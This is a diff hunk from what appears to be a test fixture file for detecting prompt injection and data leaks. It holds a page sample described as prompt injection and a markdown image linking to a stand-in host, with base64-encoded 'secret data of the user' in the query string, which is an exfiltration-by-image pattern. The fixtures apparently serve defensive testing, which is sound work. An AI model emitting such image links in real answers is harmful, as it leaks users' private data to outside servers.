@@ -48,7 +48,7 @@ const composed: Readonly<Record<string, TypedInput>> = {
   'a page about orders': pageText(`The phrase "${order}" is an example of prompt injection.`),
   'an answer with a tracking image': answer(
     '![chart](https://drop.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)',
-    { destination: { kind: 'external' } },
+    { destination: { kind: 'public' } },
   ),
   'a manifest with two faces': manifest(
     [
